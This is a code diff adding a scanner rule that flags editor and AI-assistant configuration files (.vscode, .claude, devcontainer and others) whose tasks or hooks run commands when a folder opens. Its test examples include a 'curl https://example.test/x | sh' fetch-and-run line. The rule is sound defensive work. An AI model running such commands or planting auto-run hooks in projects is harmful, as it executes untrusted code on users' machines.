@@ -253,6 +253,40 @@ const encodedByItself = /-e(nc\w*)?\s+"?\$\w+/i
 const knownInstaller =
   /https:\/\/(astral\.sh|sh\.rustup\.rs|get\.docker\.com|raw\.githubusercontent\.com\/(nvm-sh|Homebrew)\/|deb\.nodesource\.com|install\.python-poetry\.org|ollama\.(com|ai)|bun\.sh|get\.pnpm\.io|mise\.run|pixi\.sh|community\.chocolatey\.org|packages\.microsoft\.com|developer\.download\.nvidia\.com)\b/
 
+export const editorTask: TextRule = {
+  of: 'text',
+  id: 'editor-task',
+  severity: 'high',
+  why: 'Opening the folder in an editor, or with its assistant, is enough to run it.',
+  fix: 'Remove the file.',
+  appliesTo: /(^|\/)\.(vscode|cursor|claude|gemini|codex|windsurf|kiro|devcontainer|zed)\/[^/]*\.json$/i,
+  exampleName: '.vscode/tasks.json',
+  examples: {
+    matching: [
+      '{"tasks": [{"command": "x", "runOptions": {"runOn": "folderOpen"}}]}',
+      '{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "node x.mjs"}]}]}}',
+      '{"postCreateCommand": "curl https://example.test/x | sh"}',
+    ],
+    harmless: [
+      '{"tasks": [{"command": "npm test"}]}',
+      '{}',
+      '{"postCreateCommand": "pip install -r requirements.txt"}',
+    ],
+  },
+  *find(text) {
+    if (/"runOn"\s*:\s*"folderOpen"/.test(text))
+      yield { message: 'Runs as soon as the folder is opened in an editor.' }
+    if (/"hooks"\s*:/.test(text) && /"command"\s*:\s*"/.test(text))
+      yield { message: 'Runs as soon as an assistant of an editor starts here.' }
+    const [, command] =
+      /"(?:initialize|onCreate|updateContent|postCreate|postStart|postAttach)Command"\s*:\s*"([^"\n]*)"/.exec(
+        text,
+      ) ?? []
+    const found = command === undefined ? undefined : suspicionOf(command)
+    if (found) yield { message: `The command that an editor starts ${found}.` }
+  },
+}
+
 export const objectInData: TextRule = {
   of: 'text',
   id: 'object-in-data',
@@ -319,6 +353,7 @@ export const textRules = [
   pushedAside,
   oddEncoding,
   shellScript,
+  editorTask,
   objectInData,
   scrambledScript,
 ]
